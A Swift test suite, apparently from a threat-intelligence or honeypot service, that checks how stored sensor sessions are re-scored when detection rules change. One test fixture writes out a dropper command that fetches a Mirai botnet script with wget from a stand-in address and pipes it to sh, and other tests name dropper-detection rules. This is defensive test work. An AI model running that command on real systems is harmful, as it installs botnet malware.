import Detection
import IPNetworks
import Store
import Testing
import ThreatModel

@testable import Scoring
@testable import ThreatAPI

/// What a store holds after a hunt is what it would hold had the rules been there from the start.
@Suite("Hunting")
struct HuntPropertyTests {
    private static let usual = Result { try IngestRules.usual() }

    /// The rules of the program without some.
    private static func without(_ names: [String]) throws -> DetectionCatalogue {
        guard !names.isEmpty else { return try usual.get().catalogue }
        let text = "disable: [\(names.joined(separator: ", "))]\n"
        return try DetectionCatalogue(files: DetectionCatalogue.builtInFiles + [("/off.yaml", text)])
    }

    /// The evidence and primitives of the address.
    private static func state(of store: any Store) async throws -> (evidence: Evidence?, primitives: [String: Int]) {
        try await store.read { reader in
            guard let stored = try reader.address(EvidenceHistory.address) else { return (nil, [:]) }
            let words = try reader.words()
            let counts = stored.record.withUnsafeBytes { RecordView($0).primitives.map { (words[$0.word], $0.count) } }
            return (Evidence(encoded: stored.evidence).map(rounded), Dictionary(uniqueKeysWithValues: counts))
        }
    }

    /// Sums of parts that fade depend in their last digits on the order in which the parts came.
    private static func rounded(_ evidence: Evidence) -> Evidence {
        var evidence = evidence
        for index in evidence.behaviours.indices {
            let exact = evidence.behaviours[index].fadedSessions
            evidence.behaviours[index].fadedSessions = (exact * 1e9).rounded() / 1e9
        }
        return evidence
    }

    /// What sessions showed, and how far those are that go on.
    private static func sessions(of store: any Store, _ catalogue: DetectionCatalogue) async throws -> [[UInt8]] {
        try await store.read { reader in
            try reader.sessions(after: nil, limit: 999).map { session in
                let detection = try #require(SessionDetection(encoded: session.detection, in: catalogue))
                guard session.ended else { return detection.encoded(in: catalogue) }
                return Array("\(detection.shownBehaviours) \(detection.primitiveHits)".utf8)
            }
        }
    }

    /// Things to take in, in their order: the visits of a history in two parts each, and its reports.
    private static func parts(
        of history: EvidenceHistory, _ generator: inout SeededGenerator
    ) throws -> [Submission] {
        var parts: [(at: Timestamp, Submission)] = []
        for entry in history.entries {
            switch entry {
            case .report(let report):
                if let account = EvidenceHistory.accounts[report.account] {
                    parts.append((report.at, .report(report, by: account)))
                }
            case .visit(let events, let sensor):
                guard let owner = EvidenceHistory.accounts[sensor] else { continue }
                let middle = Int.random(in: 0...events.count, using: &generator)
                for half in [events[..<middle], events[middle...]] where !half.isEmpty {
                    let delay = half.startIndex == 0 ? 0 : Int.random(in: 0..<20, using: &generator) * 86_400
                    parts.append(
                        (
                            entry.start.advanced(by: .seconds(delay)),
                            .events(try SensorBatch(events: Array(half)), sensor: sensor, owner: owner)
                        ))
                }
            }
        }
        return parts.sorted { $0.at < $1.at }.map(\.1)
    }

    @Test(
        "It ends where the rules would have led from the start: whatever is taken in meanwhile, and however often it stops",
        arguments: 0..<30 as Range<UInt64>)
    func property(_ seed: UInt64) async throws {
        var generator = SeededGenerator(seed: seed)
        let rules = try Self.usual.get()
        // What only several sessions show together is not hunted.
        let all = rules.catalogue.fingerprints.keys.sorted()
        let old = rules.with(try Self.without(all.filter { _ in Bool.random(using: &generator) }))
        let parts = try Self.parts(of: try EvidenceHistory(seed: seed), &generator)
        let change = Int.random(in: 0...parts.count, using: &generator)

        let reference = HuntWorld(MemoryStore())
        for part in parts { try await reference.take(part, rules) }

        var world = HuntWorld(MemoryStore())
        try await world.begin(old)
        try await world.finish(old)
        var begun = false
        for (number, part) in parts.enumerated() {
            if number >= change, !begun {
                try await world.begin(rules)
                begun = true
            }
            try await world.take(part, number < change ? old : rules)
            guard begun, Bool.random(using: &generator) else { continue }
            if Bool.random(using: &generator) { world.restart() }
            guard let portion = try await world.scan(rules) else { continue }
            if Bool.random(using: &generator) {
                await #expect(throws: HuntWorld.PowerFailure.self) {
                    try await world.take(.hunt(.match(portion)), rules, fails: true)
                }
            }
            try await world.take(.hunt(.match(portion)), rules)
            // The same once more is of no effect: the hunt stands elsewhere by now.
            try await world.take(.hunt(.match(portion)), rules)
        }
        if !begun { try await world.begin(rules) }
        try await world.finish(rules)

        let (found, expected) = (try await Self.state(of: world.store), try await Self.state(of: reference.store))
        #expect(found.evidence == expected.evidence)
        #expect(found.primitives == expected.primitives)
        #expect(
            try await Self.sessions(of: world.store, rules.catalogue)
                == Self.sessions(of: reference.store, rules.catalogue))
        let hunt = try await world.hunt
        #expect(hunt == nil || hunt?.finishedAt != nil)

        // Once more over everything finds nothing.
        try await world.store.write { try $0.setHuntedBehaviours([:]) }
        try await world.begin(rules)
        try await world.finish(rules)
        #expect(try await Self.state(of: world.store).evidence == expected.evidence)
        if let hunt, hunt.id != (try await world.hunt?.id) { #expect(try await world.hunt?.sightings == 0) }
    }

    @Test("A rule that goes and comes back adds nothing to what it has shown")
    func backAgain() async throws {
        let rules = try Self.usual.get()
        let off = rules.with(try Self.without(["sh.dropper_pipe", "sh.dropper_file"]))
        let owner = try #require(EvidenceHistory.accounts[11])
        let world = HuntWorld(MemoryStore())
        let events = try TestVisit.dropper("\(EvidenceHistory.address)").events
        func send(_ range: Range<Int>, _ rules: IngestRules) async throws {
            try await world.take(
                .events(try SensorBatch(events: Array(events[range])), sensor: 11, owner: owner), rules)
        }
        try await world.begin(rules)
        try await send(0..<4, rules)
        let before = try await Self.state(of: world.store).evidence
        try await world.begin(off)
        try await world.finish(off)
        try await send(4..<5, off)
        try await world.begin(rules)
        try await world.finish(rules)
        let after = try await Self.state(of: world.store).evidence
        #expect(before?.behaviours == after?.behaviours)
        #expect(try await world.hunt?.behaviours == ["sh.dropper_file", "sh.dropper_pipe"])
        #expect(try await world.hunt?.sightings == 0)
    }

    @Test("It says which addresses changed, from what to what, and why")
    func findings() async throws {
        let rules = try Self.usual.get()
        let nothing = rules.with(NoRules.catalogue)
        let owner = try #require(EvidenceHistory.accounts[11])
        let world = HuntWorld(MemoryStore())
        for number in 1...5 {
            let events = try TestVisit.dropper("45.66.1.\(number)").events
            try await world.take(.events(try SensorBatch(events: events), sensor: 11, owner: owner), nothing)
        }
        try await world.begin(rules)
        let begun = try #require(try await world.hunt)
        #expect(
            begun.total == 5 && begun.position == nil
                && begun.behaviours == rules.catalogue.fingerprints.keys.sorted())
        try await world.finish(rules, sessions: 2)
        let hunt = try #require(try await world.hunt)
        #expect(hunt.sessions == 5 && hunt.events == 25 && hunt.addresses == 5 && hunt.finishedAt != nil)
        let found = try await world.store.read { try $0.findings(of: hunt.id, limit: 9) }
        #expect(found.count == 5 && hunt.sightings == found.reduce(0) { $0 + $1.behaviours.count })
        for finding in found {
            let stored = try #require(try await world.store.read { try $0.address(finding.address) })
            #expect(finding.before == 0 && finding.after == stored.confidence && finding.after >= 70)
            #expect(finding.behaviours.contains("sh.dropper_pipe"))
            let changes = try await world.store.read { try $0.changes(after: 0, limit: 99) }
            #expect(changes.last { $0.address == finding.address }?.new?.confidence == finding.after)
        }
    }

    @Test("What was reported before sensors saw it is borne out by what a hunt finds", arguments: [true, false])
    func bearingOut(isReportedFirst: Bool) async throws {
        let rules = try Self.usual.get()
        let nothing = rules.with(NoRules.catalogue)
        let world = HuntWorld(MemoryStore())
        let (owner, other) = (
            try #require(EvidenceHistory.accounts[11]), try #require(EvidenceHistory.accounts[2])
        )
        let seen = EvidenceHistory.now.advanced(by: .seconds(-86_400))
        let report = StoredReport(
            report: Report(address: EvidenceHistory.address, category: .bruteForce),
            at: seen.advanced(by: .seconds(isReportedFirst ? -3600 : 3600)), account: 2, credential: 2, isTest: false)
        let events = try TestVisit.dropper("\(EvidenceHistory.address)", at: seen).events
        try await world.take(.report(report, by: other), nothing)
        try await world.take(.events(try SensorBatch(events: events), sensor: 11, owner: owner), nothing)
        #expect(try await world.store.read { try $0.trust(of: 2) } == StoredTrust())
        try await world.begin(rules)
        try await world.finish(rules)
        let trust = try await world.store.read { try $0.trust(of: 2) }
        #expect(trust == StoredTrust(confirmed: isReportedFirst ? 1 : 0))
    }

    @Test("Sessions on other protocols are not looked into, nor those of which events are gone")
    func passedOver() async throws {
        let rules = try Self.usual.get()
        let off = rules.with(try Self.without(["redis.info"]))
        let owner = try #require(EvidenceHistory.accounts[11])
        let world = HuntWorld(MemoryStore())
        let visit = try TestVisit.dropper("45.66.1.1")
        try await world.begin(off)
        try await world.take(.events(try SensorBatch(events: visit.events), sensor: 11, owner: owner), off)
        try await world.begin(rules)
        try await world.finish(rules)
        let hunt = try #require(try await world.hunt)
        #expect(hunt.behaviours == ["redis.info"] && hunt.sessions == 1 && hunt.events == 0)

        let session = try await world.store.write { transaction in
            var session = try #require(try transaction.session(visit.session))
            #expect(try SessionReplay(of: session, from: transaction, in: rules.catalogue)?.isWhole == true)
            session.eventCount += 1
            return session
        }
        let replay = try await world.store.read { try SessionReplay(of: session, from: $0, in: rules.catalogue) == nil }
        #expect(replay)
    }

    @Test("Of an endless session the beginning is matched, and what it leaves open stays as it was")
    func endless() async throws {
        let rules = try Self.usual.get()
        let owner = try #require(EvidenceHistory.accounts[11])
        let world = HuntWorld(MemoryStore())
        var visit = try TestVisit(of: "45.66.1.1")
        visit.add(.command, ["command": "wget http://198.51.100.9/mirai.sh -O- | sh"])
        for _ in 0...SessionReplay.maximumEvents { visit.add(.command, ["command": "x"]) }
        let (events, id) = (visit.events, visit.session)
        for start in stride(from: 0, to: events.count, by: 2000) {
            let batch = try SensorBatch(events: Array(events[start..<min(events.count, start + 2000)]))
            try await world.take(.events(batch, sensor: 11, owner: owner), rules.with(NoRules.catalogue))
        }
        try await world.store.read { reader in
            let session = try #require(try reader.session(id))
            let replay = try #require(try SessionReplay(of: session, from: reader, in: rules.catalogue))
            #expect(!replay.isWhole && replay.eventCount == SessionReplay.maximumEvents)
            #expect(replay.adds(to: session, in: rules.catalogue))
        }
        try await world.begin(rules)
        try await world.finish(rules)
        #expect(try await world.hunt?.sightings ?? 0 > 0)
    }
}
